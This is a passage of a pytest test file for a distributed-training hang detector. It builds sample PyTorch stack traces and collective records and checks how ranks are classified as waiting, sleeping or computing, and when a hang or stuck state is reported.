"""Which ranks wait and which compute, judged from evidence of real ranks; validation of what a node sends."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from types import SimpleNamespace
from typing import Any

import pytest

from detrain_nb.session.diagnosis.diagnosis import HangWatch, are_in_step, describe_mismatch, describe_wait, judge
from detrain_nb.session.diagnosis.evidence import Collective, Evidence, gather
from detrain_nb.session.diagnosis.stuck import StuckWatch
from detrain_nb.session.diagnosis.where_report import Whereabouts
from detrain_nb.session.recovery.rescue import _Story
from detrain_nb.wire import Position

TORCH = "/venv/lib/python3.11/site-packages/torch"
LIB = "/usr/lib/python3.11"
CELL = "<cell 7>:4 <module>"
FUTEX, NANOSLEEP, POLL = "futex_do_wait", "hrtimer_nanosleep", "poll_schedule_timeout"

# Stacks of real ranks, from the innermost frame to the cell.
ALL_REDUCE = (
    f"{TORCH}/distributed/distributed_c10d.py:3252 all_reduce",
    f"{TORCH}/distributed/c10d_logger.py:83 wrapper",
    CELL,
)
RECV = (f"{TORCH}/distributed/distributed_c10d.py:2799 recv", f"{TORCH}/distributed/c10d_logger.py:83 wrapper", CELL)
NEW_GROUP = (
    f"{TORCH}/distributed/distributed_c10d.py:2169 _new_process_group_helper",
    "/root/code/detrain_nb/node/groups/process_groups.py:139 _new_group",
    f"{TORCH}/distributed/distributed_c10d.py:6056 _new_group_with_tag",
    f"{TORCH}/distributed/distributed_c10d.py:5863 new_group",
    f"{TORCH}/distributed/c10d_logger.py:97 wrapper",
    CELL,
)
BACKWARD = (
    f"{TORCH}/autograd/graph.py:979 _engine_run_backward",
    f"{TORCH}/autograd/__init__.py:395 backward",
    f"{TORCH}/_tensor.py:623 backward",
    CELL,
)
WAIT_TENSOR = (
    f"{TORCH}/_ops.py:1279 __call__",
    f"{TORCH}/distributed/_functional_collectives.py:142 wait_tensor",
    f"{TORCH}/distributed/_functional_collectives.py:1115 trigger_wait",
    f"{TORCH}/utils/_pytree.py:1689 wrapped",
    CELL,
)
FSDP_FORWARD = (
    f"{TORCH}/distributed/distributed_c10d.py:4394 all_gather_single",
    f"{TORCH}/distributed/c10d_logger.py:83 wrapper",
    f"{TORCH}/distributed/fsdp/_fully_shard/_fsdp_collectives.py:119 __call__",
    f"{TORCH}/distributed/fsdp/_fully_shard/_fsdp_collectives.py:364 foreach_all_gather",
    f"{TORCH}/utils/_contextlib.py:124 decorate_context",
    f"{TORCH}/distributed/fsdp/_fully_shard/_fsdp_param_group.py:407 unshard",
    f"{TORCH}/nn/modules/module.py:1778 _wrapped_call_impl",
    CELL,
)
PIPELINE = (
    f"{TORCH}/distributed/pipelining/schedules.py:683 _wait_batch_p2p",
    f"{TORCH}/distributed/pipelining/schedules.py:928 _step_microbatches",
    f"{TORCH}/distributed/pipelining/schedules.py:785 step",
    CELL,
)
SUBPROCESS = (f"{LIB}/subprocess.py:2004 _try_wait", f"{LIB}/subprocess.py:1264 wait", CELL)
AWAIT = (f"{LIB}/asyncio/tasks.py:649 sleep", CELL)
DATA_LOADER = (
    f"{LIB}/selectors.py:415 select",
    f"{LIB}/multiprocessing/connection.py:947 wait",
    f"{LIB}/multiprocessing/queues.py:113 get",
    f"{TORCH}/utils/data/dataloader.py:1291 _try_get_data",
    f"{TORCH}/utils/data/dataloader.py:725 __next__",
    CELL,
)
REGEX = (f"{LIB}/re/__init__.py:166 match", CELL)
EVENT = (f"{LIB}/threading.py:327 wait", f"{LIB}/threading.py:629 wait", CELL)
CHECKPOINT = (
    f"{TORCH}/distributed/checkpoint/filesystem.py:422 _write_files_from_queue",
    f"{TORCH}/distributed/checkpoint/filesystem.py:706 write_data",
    f"{TORCH}/distributed/checkpoint/state_dict_saver.py:196 save",
    CELL,
)
CHECKPOINT_PLAN = (
    f"{TORCH}/distributed/distributed_c10d.py:4287 all_gather",
    f"{TORCH}/distributed/c10d_logger.py:83 wrapper",
    f"{TORCH}/distributed/checkpoint/utils.py:135 gather_object",
    f"{TORCH}/distributed/checkpoint/state_dict_saver.py:196 save",
    CELL,
)
FSDP_INIT = (
    f"{TORCH}/distributed/fsdp/_fully_shard/_fsdp_state.py:314 _lazy_init",
    f"{TORCH}/distributed/fsdp/_fully_shard/_fsdp_common.py:43 wrapper",
    f"{TORCH}/distributed/fsdp/_fully_shard/_fully_shard.py:407 unshard",
    CELL,
)
PICKLE = (
    f"{TORCH}/distributed/distributed_c10d.py:3290 _object_to_tensor",
    f"{TORCH}/distributed/distributed_c10d.py:3513 all_gather_object",
    CELL,
)
IMPORT = (
    f"{TORCH}/distributed/tensor/_api.py:270 DTensor",
    f"{TORCH}/distributed/tensor/_api.py:255 <module>",
    "<frozen importlib._bootstrap>:241 _call_with_frames_removed",
    f"{TORCH}/distributed/tensor/__init__.py:10 <module>",
    f"{TORCH}/_dynamo/variables/builder.py:1 <module>",
    CELL,
)
SYNCHRONIZE = (f"{TORCH}/cuda/__init__.py:1062 synchronize", CELL)


def collective(op: str = "all_reduce", sequence: int = 6, **changes: Any) -> Collective:
    known = {"group": "0", "description": "", "tensors": "Float[3]", "is_pending": True, "seconds": 9.0}
    return Collective(op, sequence, **{**known, **changes})


def ended(op: str = "all_reduce", sequence: int = 5, **changes: Any) -> Collective:
    return collective(op, sequence, is_pending=False, **changes)


def rank(
    number: int, stack: tuple[str, ...] = (CELL,), *, share: float | None = 0.0, asleep: str = FUTEX, **changes: Any
) -> Evidence:
    """Return evidence of a rank that runs cell 7; by default it is asleep and its collectives are up to date."""
    known = {"state": "running", "cell": 7, "line": 4, "seconds": 9.0, "collectives": (ended(),), "age_s": 0.0}
    asleep = asleep if share is not None and share < 0.2 else ""
    return Evidence(number, **{**known, "stack": stack, "cpu_share": share, "asleep_in": asleep, **changes})


IDLE = Evidence(1, "idle", cell=7, collectives=(ended(),), age_s=0.0)
LOADS_0 = rank(0, ("<cell 7>:2 load_data", CELL), asleep=NANOSLEEP, line=3, function="load_data")
LOADS = rank(1, ("<cell 7>:2 load_data", CELL), asleep=NANOSLEEP, call="time.sleep(60)", line=3, function="load_data")
PENDING = {"collectives": (ended(), collective())}


@dataclass(frozen=True)
class Case:
    """The evidence of some ranks, with the verdict that is expected for each."""

    name: str
    ranks: tuple[Evidence, ...]
    expected: tuple[str, ...]  # for each rank its verdict, then what it waits in
    words: str = ""
    missing: tuple[int, ...] = field(default=())


CASES = [
    Case(
        "all_reduce that nobody else comes to",
        (rank(0, ALL_REDUCE, **PENDING, call="work.wait()"), LOADS),
        ("waits all_reduce #6", "sleeps"),
        "rank 0 waits in all_reduce #6 (line 4); rank 1 is in load_data (line 3)",
        missing=(1,),
    ),
    Case(
        "function of an earlier cell that calls one of this cell, and the other way round",
        (
            rank(0, ("<cell 7>:2 <lambda>", "<cell 3>:12 train", CELL), asleep=NANOSLEEP, line=2, function="train"),
            rank(1, ("<cell 3>:12 train", "<cell 7>:2 go", CELL), asleep=NANOSLEEP, line=2, function="train"),
        ),
        ("sleeps", "sleeps"),
        "rank 0 is in train (line 2); rank 1 is in train (line 12 of cell 3, called at line 2)",
    ),
    Case(
        "all_reduce that an ended rank does not come to",
        (rank(0, ALL_REDUCE, **PENDING), IDLE),
        ("waits all_reduce #6", "idle"),
        "rank 0 waits in all_reduce #6 (line 4); rank 1 has ended the cell",
        missing=(1,),
    ),
    Case(
        "cell of one rank calls a collective of all",
        (rank(0, ALL_REDUCE, **PENDING), Evidence(1, "idle", cell=3, collectives=(ended(),), age_s=0.0)),
        ("waits all_reduce #6", "idle"),
        "rank 0 waits in all_reduce #6 (line 4); rank 1 does not run the cell",
        missing=(1,),
    ),
    Case(
        "rank that still computes in an earlier cell is told apart",
        (
            rank(0, ALL_REDUCE, **PENDING),
            rank(1, ("<cell 6>:3 load_data",), share=1.0, cell=6, function="load_data", line=3),
        ),
        ("waits all_reduce #6", "computes"),
        "rank 0 waits in all_reduce #6 (line 4); rank 1 is computing in load_data (line 3) of cell 6",
        missing=(1,),
    ),
    Case(
        "all_reduce that all have come to is slow",
        (rank(0, ALL_REDUCE, **PENDING), rank(1, ALL_REDUCE, **PENDING)),
        ("waits all_reduce #6", "waits all_reduce #6"),
        "ranks 0-1 wait in all_reduce #6 (line 4)",
    ),
    Case(
        "backward of DDP waits for the oldest of its buckets",
        (rank(0, BACKWARD, collectives=(ended(), collective(), collective(sequence=7))), LOADS),
        ("waits all_reduce #6", "sleeps"),
        missing=(1,),
    ),
    Case(
        "backward on the CPU computes while a bucket is under way",
        (rank(0, BACKWARD, share=0.93, **PENDING), rank(1, BACKWARD, share=0.96)),
        ("computes", "computes"),
        "ranks 0-1 are computing at line 4",
    ),
    Case(
        "recv against recv: gloo does not record them",
        (rank(0, RECV, call="work.wait()"), rank(1, RECV, call="work.wait()", line=5)),
        ("waits recv", "waits recv"),
        "rank 0 waits in recv (line 4); rank 1 waits in recv (line 5)",
    ),
    Case(
        "new_group waits in the store, through our own frame",
        (rank(0, NEW_GROUP, asleep=POLL), rank(1, share=0.99, age_s=1.5)),
        ("waits new_group", "computes"),
    ),
    Case(
        "request.wait() is a call of C in the user's frame",
        (rank(0, asleep=FUTEX, call="requests[0].wait(timeout=f(3))"), LOADS),
        ("waits requests[0].wait(timeout=f(3))", "sleeps"),
    ),
    Case("request.wait() where the kernel tells nothing", (rank(0, asleep="", call="r.wait()"),), ("waits r.wait()",)),
    Case("store.get() sleeps in a socket", (rank(0, asleep=POLL, call="st.get('x')"),), ("waits st.get('x')",)),
    Case(
        "a store in a file is looked at again and again",
        (rank(0, asleep=NANOSLEEP, call="store.wait(['x'])"), rank(1, asleep=NANOSLEEP, call="get_store().get('x')")),
        ("waits store.wait(['x'])", "waits get_store().get('x')"),
    ),
    Case("wait() that sleeps is no store", (rank(0, asleep=NANOSLEEP, call="lock.wait(1)"),), ("sleeps",)),
    Case("queue.get() in C is no store", (rank(0, asleep=FUTEX, call="SimpleQueue().get()"),), ("sleeps",)),
    Case("lock of the user", (rank(0, asleep=FUTEX, call="lock.acquire()"),), ("sleeps",)),
    Case("wait of the standard library", (rank(0, EVENT, call="waiter.wait()"),), ("sleeps",)),
    Case("wait for a process of its own", (rank(0, call="os.wait()", asleep="do_wait"),), ("sleeps",)),
    Case("the same by another name", (rank(0, call="wait()", asleep="do_wait"),), ("sleeps",)),
    Case("wait for what it computes itself", (rank(0, asleep=FUTEX, call="torch._C.wait(future)"),), ("sleeps",)),
    Case("wait as an argument has ended", (rank(0, call="f(request.wait())", asleep=FUTEX),), ("sleeps",)),
    Case(
        "functional collective",
        (rank(0, WAIT_TENSOR, **PENDING), LOADS),
        ("waits all_reduce #6", "sleeps"),
        missing=(1,),
    ),
    Case("functional collective that is not recorded", (rank(0, WAIT_TENSOR),), ("waits wait_tensor",)),
    Case(
        "fully_shard gathers parameters",
        (rank(0, FSDP_FORWARD, collectives=(ended("all_gather"), collective("all_gather"))), LOADS),
        ("waits all_gather #6", "sleeps"),
        missing=(1,),
    ),
    Case("schedule of a pipeline waits for the other stage", (rank(0, PIPELINE, call="w.wait()"),), ("waits step",)),
    Case("function below a wrapper of torch", (rank(0, FSDP_INIT),), ("waits unshard",)),
    Case("pickles an object for the others", (rank(0, PICKLE, share=0.9),), ("computes",)),
    Case(
        "who waits is named first",
        (LOADS_0, rank(1, RECV)),
        ("sleeps", "waits recv"),
        "rank 1 waits in recv (line 4); rank 0 is in load_data (line 3)",
    ),
    Case(
        "C code reads a socket while an asynchronous collective is under way",
        (rank(0, asleep=POLL, call="rows.fetch()", **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case("time.sleep", (rank(0, asleep=NANOSLEEP, call="time.sleep(9)"),), ("sleeps",), "rank 0 is at line 4"),
    Case(
        "time.sleep while an asynchronous collective is under way",
        (rank(0, asleep=NANOSLEEP, call="time.sleep(9)", **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case(
        "subprocess.run while an asynchronous collective is under way",
        (rank(0, SUBPROCESS, asleep="do_wait", **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case(
        "the same where the kernel tells nothing",
        (rank(0, SUBPROCESS, asleep="", **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case(
        "await while an asynchronous collective is under way",
        (rank(0, AWAIT, asleep="do_epoll_wait", **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case("next() of a DataLoader", (rank(0, DATA_LOADER, asleep=POLL, **PENDING), LOADS), ("sleeps", "sleeps")),
    Case(
        "work.wait() while the kernel tells nothing",
        (rank(0, asleep="", call="work.wait()", **PENDING), LOADS),
        ("waits all_reduce #6", "sleeps"),
        missing=(1,),
    ),
    Case(
        "C code that holds the GIL: the answer is stale",
        (rank(0, REGEX, share=0.99, age_s=30.0, **PENDING), rank(1, ALL_REDUCE)),
        ("computes", "waits all_reduce"),
    ),
    Case("stale answer of a rank that sleeps is no evidence", (rank(0, age_s=3.0, **PENDING), LOADS), ("sleeps",) * 2),
    Case(
        "stale answer, and the stack is evidence enough",
        (rank(0, ALL_REDUCE, age_s=3.0, **PENDING), LOADS),
        ("waits all_reduce", "sleeps"),
    ),
    Case("loop in Python, with a collective under way", (rank(0, share=0.8, **PENDING), LOADS), ("computes", "sleeps")),
    Case("checkpoint is written", (rank(0, CHECKPOINT, asleep="folio_wait_bit_common"),), ("sleeps",)),
    Case(
        "checkpoint is written while a collective is under way",
        (rank(0, CHECKPOINT, asleep=FUTEX, **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case(
        "checkpoint waits for the plans of the others",
        (rank(0, CHECKPOINT_PLAN, collectives=(ended(), collective("all_gather"))), LOADS),
        ("waits all_gather #6", "sleeps"),
        missing=(1,),
    ),
    Case(
        "import of a module",
        (rank(0, ("<frozen importlib._bootstrap_external>:1 get_data", CELL), asleep="", **PENDING), LOADS),
        ("sleeps", "sleeps"),
    ),
    Case("import of torch.distributed itself", (rank(0, IMPORT, asleep="folio_wait_bit_common"),), ("sleeps",)),
    Case("first look: nothing is known of the processor", (rank(0, share=None),), ("computes",)),
    Case(
        "CUDA: spins in a sync, others have not come",
        (rank(0, SYNCHRONIZE, share=1.0, is_cuda=True, **PENDING), rank(1, share=1.0, is_cuda=True)),
        ("waits all_reduce #6", "computes"),
        missing=(1,),
    ),
    Case(
        "CUDA: spins in a sync, all have come",
        (rank(0, SYNCHRONIZE, share=1.0, is_cuda=True, **PENDING), rank(1, share=1.0, is_cuda=True, **PENDING)),
        ("computes", "computes"),
    ),
    Case(
        "CUDA: sleeps in a sync, others have not come",
        (rank(0, SYNCHRONIZE, is_cuda=True, asleep=POLL, **PENDING), rank(1, share=1.0, is_cuda=True)),
        ("waits all_reduce #6", "computes"),
        missing=(1,),
    ),
    Case(
        "CUDA: sleeps in a collective that all have come to",
        (rank(0, ALL_REDUCE, is_cuda=True, **PENDING), rank(1, ALL_REDUCE, is_cuda=True, **PENDING)),
        ("sleeps", "sleeps"),
    ),
    Case(
        "CUDA: time.sleep, and others have not come",
        (rank(0, is_cuda=True, asleep=NANOSLEEP, **PENDING), rank(1, share=1.0, is_cuda=True)),
        ("sleeps", "computes"),
    ),
    Case(
        "CUDA: next() of a DataLoader, and others have not come",
        (rank(0, DATA_LOADER, is_cuda=True, asleep=POLL, **PENDING), rank(1, share=1.0, is_cuda=True)),
        ("sleeps", "computes"),
    ),
    Case(
        "CUDA: on gloo the other has begun more, and not what is waited for on NCCL",
        (
            rank(0, SYNCHRONIZE, share=1.0, is_cuda=True, collectives=(ended(sequence=9), collective(group="0/nccl"))),
            rank(1, share=1.0, is_cuda=True, collectives=(ended(sequence=9), ended(group="0/nccl"))),
        ),
        ("waits all_reduce #6", "computes"),
        missing=(1,),
    ),
    Case("CUDA: new_group in the store", (rank(0, NEW_GROUP, is_cuda=True, asleep=POLL),), ("waits new_group",)),
    Case(
        "subgroup: only its members are waited for",
        (
            rank(0, ALL_REDUCE, collectives=(collective(group="2"),), members={"2": (0, 2)}),
            rank(1, share=1.0),
            rank(2, ALL_REDUCE, collectives=(collective(group="2"),), members={"2": (0, 2)}),
        ),
        ("waits all_reduce #6 of group 2", "computes", "waits all_reduce #6 of group 2"),
        "ranks 0, 2 wait in all_reduce #6 of group 2 (line 4); rank 1 is computing at line 4",
    ),
    Case(
        "two groups in different order",
        (
            rank(0, ALL_REDUCE, collectives=(collective(sequence=1, group="1"),), members={"1": (0, 1)}),
            rank(1, ALL_REDUCE, collectives=(collective(sequence=1, group="2"),), members={"2": (0, 1)}),
        ),
        ("waits all_reduce #1 of group 1", "waits all_reduce #1 of group 2"),
        missing=(1,),
    ),
    Case(
        "the collective that others have not come to, before one that is slow",
        (
            rank(0, ALL_REDUCE, collectives=(collective(sequence=1, group="1"), collective()), members={"1": (0, 1)}),
            rank(1, share=1.0, collectives=(collective(sequence=1, group="1"),), members={"1": (0, 1)}),
        ),
        ("waits all_reduce #6", "computes"),
        missing=(1,),
    ),
    Case(
        "ranks that run nothing, and one of which nothing is known",
        (
            rank(0, ALL_REDUCE, **PENDING),
            Evidence(1, "starting"),
            Evidence(2, "down"),
            Evidence(3, "no answer"),
            Evidence(4, "unknown"),
            Evidence(5, "no answer"),
        ),
        ("waits all_reduce #6", "starting", "down", "no answer", "unknown", "no answer"),
        "rank 0 waits in all_reduce #6 (line 4); rank 1 is starting; rank 2 is down; ranks 3, 5 do not answer; "
        "rank 4 is unknown",
        missing=(1, 2, 3, 4, 5),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_what_ranks_do_is_decided_on_evidence(case: Case) -> None:
    verdicts = judge(case.ranks)
    assert tuple(f"{verdict.kind} {verdict.waits_in}".rstrip() for verdict in verdicts.values()) == case.expected
    assert verdicts[0].missing == case.missing
    if case.words:
        assert describe_wait(verdicts.values()) == case.words


@pytest.mark.parametrize(
    ("group", "description", "words"),
    [
        ("0", "", "all_reduce #6"),
        ("3", "", "all_reduce #6 of group 3"),
        ("3", "mesh_tp", "all_reduce #6 of group 3 (mesh_tp)"),
        ("ad56679d2c95f00a464e146ac76c2deb475d8262", "", "all_reduce #6 of group ad56679d"),
    ],
)
def test_group_is_named_unless_it_is_the_default_one(group: str, description: str, words: str) -> None:
    assert str(collective(group=group, description=description)) == words


# ---- collectives that do not match


@pytest.mark.parametrize(
    ("first", "second", "words"),
    [
        (collective(), ended(sequence=6), ""),
        (
            collective(),
            collective("broadcast"),
            "collective #6 differs: all_reduce Float[3] on rank 0, broadcast Float[3] on rank 1",
        ),
        (
            collective(),
            ended("broadcast", 6),
            "collective #6 differs: all_reduce Float[3] on rank 0, broadcast Float[3] on rank 1",
        ),
        (
            collective(tensors="Float[3]"),
            collective(tensors="Float[4]"),
            "all_reduce #6 has different tensors: Float[3] on rank 0, Float[4] on rank 1",
        ),
        (
            collective(group="2", tensors="Float[3]"),
            collective(group="2", tensors="Double[3]"),
            "all_reduce #6 of group 2 has different tensors: Float[3] on rank 0, Double[3] on rank 1",
        ),
        (collective("scatter", tensors="Float[3], Float[3]"), collective("scatter", tensors=""), ""),
        (collective("all_to_all", tensors="Float[3]"), collective("all_to_all", tensors="Float[5]"), ""),
        (collective(), collective("broadcast", sequence=7), ""),
        (collective(), collective("broadcast", group="2"), ""),
        (ended(sequence=6), ended("broadcast", 6), ""),
    ],
    ids=lambda value: f"{value} {value.tensors}" if isinstance(value, Collective) else None,
)
def test_collectives_that_do_not_fit_are_named(first: Collective, second: Collective, words: str) -> None:
    assert describe_mismatch([rank(0, collectives=(first,)), rank(1, collectives=(second,))]) == words


def test_groups_of_other_members_are_not_compared() -> None:
    ranks = [
        rank(0, collectives=(collective(group="a"),), members={"a": (0, 1)}),
        rank(2, collectives=(collective("broadcast", group="a"),), members={"a": (2, 3)}),
    ]
    assert describe_mismatch(ranks) == ""


# ---- successive looks


def _watch(looks: list[list[Evidence]], *, hang_s: float = 5.0, running: tuple[int, ...] = (0, 1)) -> list[str]:
    """Return the report after each look, one look per second; as in a session, only looks with stacks give a report."""
    watch = HangWatch(hang_s)
    reports = []
    for count, look in enumerate(looks, 1):
        wants_stack = count == len(looks) == 1 or watch.wants_stack(now=100.0 + count)
        watch.note(judge(look), now=100.0 + count)
        reports.append(watch.report(running=running, now=100.0 + count) if wants_stack else "")
    return reports


def test_wait_is_reported_once_it_has_lasted_and_goes_away() -> None:
    def look(seconds: float) -> list[Evidence]:
        return [rank(0, ALL_REDUCE, seconds=seconds, collectives=(collective(seconds=seconds - 1),)), LOADS]

    reports = _watch([*(look(float(count)) for count in range(1, 9)), [rank(0, share=1.0), LOADS]])
    words = "rank 0 waits in all_reduce #6 (line 4); rank 1 is in load_data (line 3)"
    assert reports == ["", "", "", "", "", words, words, words, ""]


def test_wait_that_is_not_recorded_lasts_since_the_last_operation() -> None:
    looks = [[rank(0, RECV, seconds=count, operations=min(count, 3)), LOADS] for count in range(1, 11)]
    reports = _watch(looks)
    assert [bool(report) for report in reports] == [False] * 7 + [True] * 3


def test_loop_of_point_to_point_operations_is_no_hang() -> None:
    looks = [[rank(0, RECV, seconds=count, operations=count), rank(1, share=0.9)] for count in range(1, 20)]
    assert not any(_watch(looks))


def test_wait_that_follows_a_sleep_lasts_since_then() -> None:
    asleep = [[rank(0, asleep=NANOSLEEP, seconds=count, call="time.sleep(9)"), LOADS] for count in range(1, 7)]
    waiting = [[rank(0, RECV, seconds=count), LOADS] for count in range(7, 15)]
    reports = _watch([*asleep, *waiting])
    assert [bool(report) for report in reports] == [False] * 10 + [True] * 4


def test_wait_that_follows_another_lasts_since_then() -> None:
    first = [[rank(0, RECV, seconds=count), LOADS] for count in range(1, 4)]
    second = [[rank(0, NEW_GROUP, asleep=POLL, seconds=count), LOADS] for count in range(4, 12)]
    reports = _watch([*first, *second])
    assert [bool(report) for report in reports] == [False] * 8 + [True] * 3


def test_wait_that_follows_work_lasts_since_then() -> None:
    busy = rank(1, share=1.0)
    work = [[rank(0, share=1.0, seconds=count), busy] for count in range(1, 7)]
    waiting = [[rank(0, RECV, seconds=count), busy] for count in range(7, 14)]
    reports = _watch([*work, *waiting])
    assert [bool(report) for report in reports] == [False] * 10 + [True] * 3


def test_wait_on_a_gpu_takes_processor_time() -> None:
    look = [rank(0, SYNCHRONIZE, share=1.0, is_cuda=True, **PENDING), rank(1, share=1.0, is_cuda=True)]
    assert _watch([look])[-1].startswith("rank 0 waits in all_reduce #6 (line 4); rank 1 is computing")


def test_rank_that_computed_has_not_waited_for_what_it_began_before() -> None:
    begun = {"collectives": (collective(seconds=60.0),)}
    reports = _watch([[rank(0, BACKWARD, share=1.0, **begun), LOADS], *[[rank(0, ALL_REDUCE, **begun), LOADS]] * 6])
    assert [bool(report) for report in reports] == [False] * 5 + [True] * 2


@pytest.mark.parametrize(
    "look",
    [
        [rank(0, ALL_REDUCE, **PENDING), rank(1, ALL_REDUCE, **PENDING)],
        [rank(0, share=1.0), rank(1, share=1.0)],
        [LOADS, rank(0, asleep=NANOSLEEP)],
        [rank(0, ALL_REDUCE, collectives=(collective(seconds=0.01),)), LOADS],
    ],
    ids=["slow but matching collective", "long compute", "sleep", "fast collectives"],
)
def test_healthy_work_is_never_reported(look: list[Evidence]) -> None:
    assert not any(_watch([look] * 20))


def test_two_groups_that_are_slow_are_no_hang() -> None:
    members = {"1": (0, 1), "2": (2, 3)}
    look = [
        rank(number, ALL_REDUCE, collectives=(collective(group=group),), members=members)
        for number, group in enumerate(("1", "1", "2", "2"))
    ]
    assert not any(_watch([look] * 20, running=(0, 1, 2, 3)))


def test_only_waits_of_the_cell_are_reported_with_whoever_is_missing_elsewhere() -> None:
    members = {"1": (0, 1)}
    others = [Evidence(number, "idle", cell=3, age_s=0.0) for number in (1, 2)]
    waiting = rank(0, ALL_REDUCE, collectives=(collective(group="1"),), members=members)
    words = "rank 0 waits in all_reduce #6 of group 1 (line 4); rank 1 does not run the cell"
    assert _watch([[waiting, *others]], running=(0,)) == [words]
    assert _watch([[waiting, *others]], running=(2,)) == [""]
    words = "rank 0 waits in recv (line 4); ranks 1-2 do not run the cell"
    assert _watch([[rank(0, RECV), *others]], running=(0,)) == [words]


def test_collectives_that_do_not_fit_are_reported_with_the_difference() -> None:
    look = [rank(0, ALL_REDUCE, **PENDING), rank(1, ALL_REDUCE, collectives=(ended(), collective("broadcast")), line=9)]
    assert _watch([look])[-1] == (
        "rank 0 waits in all_reduce #6 (line 4); rank 1 waits in broadcast #6 (line 9); "
        "collective #6 differs: all_reduce Float[3] on rank 0, broadcast Float[3] on rank 1"
    )


def test_collectives_that_have_ended_are_compared_too_when_all_is_over() -> None:
    look = [rank(0, collectives=(ended(),)), rank(1, collectives=(ended(tensors="Int[3]"),))]
    assert describe_mismatch(look) == ""
    assert describe_mismatch(look, is_over=True) == (
        "all_reduce #5 has different tensors: Float[3] on rank 0, Int[3] on rank 1"
    )


def test_stack_is_wanted_shortly_before_somebody_may_have_waited_for_long() -> None:
    watch = HangWatch(5.0)
    wanted = []
    for count in range(1, 8):
        wanted.append(watch.wants_stack(now=100.0 + count))
        look = [rank(0, seconds=count, operations=3), rank(1, share=1.0, seconds=count)]
        watch.note(judge(look), now=100.0 + count)
    assert wanted == [False] * 3 + [True] * 4
    watch.note(judge([rank(0, operations=4)]), now=108.0)
    assert not watch.wants_stack(now=109.0)
    assert watch.wants_stack(now=113.0)
    watch.note(judge([rank(0, share=1.0, operations=4)]), now=113.0)
    assert not watch.wants_stack(now=114.0)
    watch.note(judge([Evidence(0, "idle")]), now=120.0)
    assert not watch.wants_stack(now=130.0)


def _gave_up_at(look: Callable[[float], list[Evidence]], *, hang_s: float = 5.0, first: int = 1) -> int:
    """Return the second at which the watch gave up, with a look each second from ``first`` on; 0 for never."""
    watch = HangWatch(hang_s)
    for count in range(first, first + 80):
        ranks = look(float(count))
        watch.note(judge(ranks), now=100.0 + count)
        if watch.is_hopeless(now=100.0 + count):
            return count
    return 0


def _waiting(number: int, seconds: float, **changes: Any) -> Evidence:
    return rank(number, ALL_REDUCE, seconds=seconds, collectives=(ended(), collective(seconds=seconds)), **changes)


IDLE = Evidence(1, "idle", collectives=(ended(),))


@pytest.mark.parametrize(
    ("look", "hang_s", "expected"),
    [
        pytest.param(lambda s: [_waiting(0, s), IDLE], 5.0, 16, id="collective"),
        pytest.param(lambda s: [_waiting(0, s), IDLE], 0.0, 4, id="reported at once"),
        pytest.param(lambda s: [rank(0, RECV, seconds=s), IDLE], 5.0, 61, id="message"),
        pytest.param(lambda s: [_waiting(0, s), IDLE, rank(2, RECV, seconds=s)], 5.0, 61, id="two"),
        pytest.param(lambda s: [_waiting(0, s), IDLE, rank(2, RECV, share=s <= 5.0, seconds=s)], 5.0, 65, id="later"),
        pytest.param(lambda s: [_waiting(0, s), IDLE, rank(2, share=1.0, seconds=s)], 5.0, 0, id="one computes"),
        pytest.param(lambda s: [_waiting(0, s), IDLE, replace(LOADS, rank=2)], 5.0, 0, id="one sleeps"),
        pytest.param(lambda s: [_waiting(0, s), IDLE, Evidence(2, "no answer")], 5.0, 0, id="one does not answer"),
        pytest.param(lambda s: [_waiting(0, s), _waiting(1, s)], 5.0, 0, id="all have come"),
        pytest.param(lambda s: [replace(IDLE, rank=0), IDLE], 5.0, 0, id="all have ended"),
    ],
)
def test_there_is_no_hope_when_all_that_are_left_have_waited_for_long(
    look: Callable[[float], list[Evidence]], hang_s: float, expected: int
) -> None:
    assert _gave_up_at(look, hang_s=hang_s) == expected


def test_there_is_hope_at_the_first_look_however_long_the_cell_runs() -> None:
    assert _gave_up_at(lambda s: [_waiting(0, s), IDLE], first=600) == 615
    assert _gave_up_at(lambda s: [rank(0, RECV, seconds=s, operations=9), IDLE], first=600) == 660
    assert _gave_up_at(lambda s: [rank(0, RECV, seconds=s, operations=int(s)), IDLE], first=600) == 0


def test_there_is_hope_where_a_rank_has_not_answered_meanwhile() -> None:
    def look(second: float) -> list[Evidence]:
        return [Evidence(0, "no answer") if second == 10.0 else _waiting(0, second), IDLE]

    assert _gave_up_at(look) == 11 + 15


# ---- ranks that certainly wait in vain


def _known(evidence: Evidence, **changes: Any) -> Evidence:
    return replace(evidence, **{"age_s": 0.0, "operations": 7, **changes})


def _stuck_at(look: Callable[[float], list[Evidence]]) -> int:
    """Return the look, of one per second, at which the remaining ranks certainly wait in vain; 0 for never."""
    watch = StuckWatch()
    for count in range(1, 100):
        watch.note(judge(look(float(count))), now=100.0 + count)
        if watch.is_certain(now=100.0 + count):
            return count
    return 0


_ENDED = _known(IDLE)
_STUCK = _known(_waiting(0, 9.0))


@pytest.mark.parametrize(
    "ranks",
    [
        pytest.param([_STUCK, _ENDED], id="collective"),
        pytest.param([replace(_STUCK, stack=BACKWARD), _ENDED], id="DDP"),
        pytest.param([replace(_STUCK, stack=(CELL,), call="work.wait()"), _ENDED], id="asynchronous"),
        pytest.param([_STUCK, _ENDED, replace(_STUCK, rank=2)], id="two wait for the third"),
        pytest.param(
            [
                _known(_waiting(0, 9.0), collectives=(collective(group="a"),), members={"a": (0, 1)}),
                _ENDED,
                _known(_waiting(2, 9.0), collectives=(collective(sequence=9),)),
            ],
            id="in other groups",
        ),
    ],
)
def test_ranks_are_stuck_when_three_looks_find_nobody_who_could_come(ranks: list[Evidence]) -> None:
    assert _stuck_at(lambda _: ranks) == 3


@pytest.mark.parametrize(
    "look",
    [
        pytest.param(lambda s: [_STUCK, _ENDED, _known(rank(2, share=1.0))], id="one computes"),
        pytest.param(lambda s: [_STUCK, _ENDED, _known(replace(LOADS, rank=2))], id="one sleeps"),
        pytest.param(lambda s: [_STUCK, _ENDED, _known(rank(2, RECV))], id="a message may be on its way"),
        pytest.param(lambda s: [_STUCK, _ENDED, Evidence(2, "no answer")], id="one does not answer"),
